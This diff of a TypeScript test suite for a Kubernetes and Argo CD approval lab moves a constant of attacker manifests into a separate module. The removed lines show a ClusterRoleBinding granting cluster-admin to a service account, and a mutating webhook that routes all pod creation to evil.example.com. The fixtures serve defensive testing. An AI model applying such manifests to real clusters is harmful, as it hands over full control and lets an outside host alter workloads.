@@ -11,6 +11,7 @@ import type { KubernetesClient } from '../../operations/kubernetes/client';
 import type { VerifySite } from '../../operations/verify/check';
 import { approvals } from '../../operations/verify/checks/approvals';
 import { failToTakeAway } from '../support/lab/application-attacks';
+import { EVERYTHING } from '../support/lab/everything-allowed';
 import { Attacker } from '../support/lab/attacker';
 import { APPLICATIONS, chartFiles, DEVELOPMENT, NAMESPACE, RolloutLab } from '../support/lab/rollout-lab';
 import { onLab } from '../support/lab/running';
@@ -34,26 +35,6 @@ const tools = (text: string, objects: readonly object[] = []) => ({
     ...objects,
   ]),
 });
-/** What would let anybody do anything, and anything be run. */
-const EVERYTHING = [
-  {
-    ...{ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'evil' } },
-    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
-    subjects: [{ kind: 'ServiceAccount', namespace: 'lke-platform-access', name: 'production-app-team' }],
-  },
-  {
-    ...{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration' },
-    metadata: { name: 'evil' },
-    webhooks: [
-      {
-        ...{ name: 'evil.example.com', clientConfig: { url: 'https://evil.example.com' }, failurePolicy: 'Ignore' },
-        ...{ admissionReviewVersions: ['v1'], sideEffects: 'None' },
-        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
-      },
-    ],
-  },
-];
-
 onArgoCd('whoever may write to the repository gets nothing into production that nobody approved', () => {
   let lab: RolloutLab;
   let approved: string;
